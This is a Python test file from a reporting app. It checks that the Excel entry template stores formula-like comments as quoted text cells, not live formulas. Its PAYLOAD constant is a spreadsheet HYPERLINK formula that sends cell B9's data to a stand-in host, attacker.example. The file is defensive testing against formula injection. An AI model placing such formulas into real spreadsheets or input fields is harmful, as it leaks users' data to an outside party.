"""The entry page's template: a comment or a name that looks like a formula is a text cell."""

from io import BytesIO

from openpyxl import load_workbook

from tongket.reporting.models import Value

from .world import reporting_of

PAYLOAD = '=HYPERLINK("http://attacker.example/?d="&B9,"Mở biểu")'


def test_template_writes_formula_like_comments_as_text(clients, world):
    r = reporting_of(world)
    stored = Value.objects.filter(unit=world.xa_hy, indicator=r.total)
    assert stored.update(comment=PAYLOAD) == 1
    response = clients["reporting"].get(f"/entry/{world.sub_xa_hy.pk}/template.xlsx")
    book = load_workbook(BytesIO(response.content))
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    (note,) = [c for c in cells if c.value == PAYLOAD]
    assert note.data_type == "s" and note.quotePrefix
